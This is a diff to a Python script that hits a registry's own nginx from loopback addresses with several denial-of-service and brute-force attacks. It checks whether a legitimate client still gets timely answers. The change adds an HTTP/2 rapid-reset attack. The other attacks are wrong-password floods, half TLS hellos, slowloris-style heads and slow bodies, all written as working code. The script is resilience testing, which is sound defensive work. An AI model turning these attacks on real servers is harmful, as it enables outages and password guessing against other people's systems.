@@ -1,14 +1,15 @@
 #!/usr/bin/python3
-"""Attacks a registry's nginx from five addresses of the loopback, while a client with the right password uses it from a sixth one:
+"""Attacks a registry's nginx from six addresses of the loopback, while a client with the right password uses it from a seventh one:
 try-attackers.py, with FRONT, CERTIFICATE, LOGIN and READER in the environment, as try-nginx.sh has them.
 
   passwords  256 connections of HTTP/1.1, each with 100 requests with a wrong password on the way
   streams    32 connections of HTTP/2, each with 100 such streams on the way
+  resets     8 connections of HTTP/2, each with some 400 streams a second with a wrong password that are given up at once
   hellos     1,400 connections at a time that send half of what begins TLS
   heads      100 connections that send half a head within TLS, and come again when they are closed
   bodies     80 requests of somebody who may read, each with a body that comes byte by byte
 
-Where SHARE is set, as 0.1, there are so many of the first two and of heads, for a machine that has other work.
+Where SHARE is set, as 0.1, there are so many of the first three and of heads, for a machine that has other work.
 The status is 1 where the client waited for longer than two seconds, or got a wrong answer, or where an attack didn't take place."""
 import asyncio
 import base64
@@ -28,8 +29,6 @@ SECONDS, LIMIT = 15, 2.0   # how long the client is beside them; the longest tha
 FRONT = urllib.parse.urlsplit(os.environ["FRONT"])
 WRONG = base64.b64encode((os.environ["LOGIN"].split(":")[0] + ":wrong").encode()).decode()
 READER = base64.b64encode(os.environ["READER"].encode()).decode()
-
-
 TRUST, TRUST_2 = (ssl.create_default_context(cafile=os.environ["CERTIFICATE"]) for _ in range(2))
 TRUST_2.set_alpn_protocols(["h2"])
 AT_ONCE = asyncio.Semaphore(20)   # more at once would all take too long
@@ -91,12 +90,14 @@ def text_field(name, text):
     return name + bytes([len(text)]) + text.encode()
 
 
+GREETING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
+GUESS = b"\x82\x87" + text_field(b"\x04", "/subjects") + text_field(b"\x01", FRONT.netloc) + text_field(b"\x0f\x08", "Basic " + WRONG)
+
+
 async def guess_in_streams(counts):
     reader, writer = await open_line("127.0.0.3", TRUST_2)
-    head = (b"\x82\x87" + text_field(b"\x04", "/subjects") + text_field(b"\x01", FRONT.netloc) + text_field(b"\x0f\x08", "Basic " + WRONG))
     try:
-        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
-        writer.write(b"".join(frame(1, 5, stream, head) for stream in range(1, 201, 2)))
+        writer.write(GREETING + b"".join(frame(1, 5, stream, GUESS) for stream in range(1, 201, 2)))
         stream = 201
         while True:
             size, kind = struct.unpack(">IB", b"\0" + (await reader.readexactly(4)))
@@ -104,13 +105,29 @@ async def guess_in_streams(counts):
             payload = await reader.readexactly(size)
             if kind == 1:
                 await take_status(counts, b"\x03401" in payload[:8])
-                writer.write(frame(1, 5, stream, head))
+                writer.write(frame(1, 5, stream, GUESS))
                 stream += 2
             elif kind == 4 and not flags & 1:
                 writer.write(frame(4, 1, 0))
             elif kind == 0 and size:
                 writer.write(frame(8, 0, 0, struct.pack(">I", size)))
             await writer.drain()
+    finally:
+        writer.close()
+
+
+async def give_streams_up(counts):
+    reader, writer = await open_line("127.0.0.7", TRUST_2)
+    try:
+        writer.write(GREETING + frame(4, 1, 0))
+        over = asyncio.ensure_future(reader.read())
+        for first in range(1, 1800, 40):
+            writer.write(b"".join(frame(1, 5, stream, GUESS) + frame(3, 0, stream, b"\0\0\0\x08") for stream in range(first, first + 40, 2)))
+            await writer.drain()
+            count(counts, REFUSED, 20)
+            await asyncio.wait([over], timeout=0.05)
+            if over.done():
+                return
     finally:
         writer.close()
 
@@ -152,7 +169,7 @@ def hold_half_hellos(counts):
             line = socket.create_connection(("127.0.0.1", FRONT.port), source_address=("127.0.0.4", 0))
             line.sendall(bytes.fromhex("1603010200010001fc0303") + bytes(20))
             lines.append((time.monotonic() + 4.5, line))
-        while len(lines) > 1400 or lines[0][0] < time.monotonic():
+        while lines and (len(lines) > 1400 or lines[0][0] < time.monotonic()):
             lines.popleft()[1].close()
         counts[OPEN] = len(lines)
         time.sleep(0.1)
@@ -167,7 +184,8 @@ def run_all(attack, number):
 
 SHARE = float(os.environ.get("SHARE", "1"))
 ATTACKS = {"passwords": run_all(guess_passwords, round(256 * SHARE)), "streams": run_all(guess_in_streams, max(1, round(32 * SHARE))),
-           "hellos": hold_half_hellos, "heads": run_all(send_half_heads, round(100 * SHARE)), "bodies": run_all(send_slow_bodies, 80)}
+           "resets": run_all(give_streams_up, max(1, round(8 * SHARE))), "hellos": hold_half_hellos,
+           "heads": run_all(send_half_heads, round(100 * SHARE)), "bodies": run_all(send_slow_bodies, 80)}
 
 
 # The client
@@ -207,8 +225,8 @@ def told(what, times):
 async def until_beset(counts):
     """Waits until each attack has begun."""
     for _ in range(1200):
-        begun = [counts["passwords"][REFUSED] > 10, counts["streams"][REFUSED] > 10, counts["hellos"][OPEN] > 1100,
-                 counts["heads"][OPEN] > 50 * SHARE, counts["bodies"][OPEN] > 60]
+        begun = [counts["passwords"][REFUSED] > 10, counts["streams"][REFUSED] > 10, counts["resets"][REFUSED] > 100,
+                 counts["hellos"][OPEN] > 1100, counts["heads"][OPEN] > 50 * SHARE, counts["bodies"][OPEN] > 60]
         if all(begun):
             return
         await asyncio.sleep(0.1)
@@ -233,6 +251,7 @@ async def main():
     for name in ("passwords", "streams"):
         guesses, limited = (after[name][it] - before[name][it] for it in (REFUSED, LIMITED))
         print(f"{name}: {guesses / SECONDS:.0f} guesses a second, {limited / SECONDS:.0f} refused before")
+    print(f"resets: {(after['resets'][REFUSED] - before['resets'][REFUSED]) / SECONDS:.0f} streams a second given up")
     print(f"open at the end: half hellos {after['hellos'][OPEN]}, half heads {after['heads'][OPEN]}, slow bodies {after['bodies'][OPEN]}")
     if times[-1] > LIMIT:
         sys.exit(f"WRONG the client waited for {times[-1]:.1f} s")
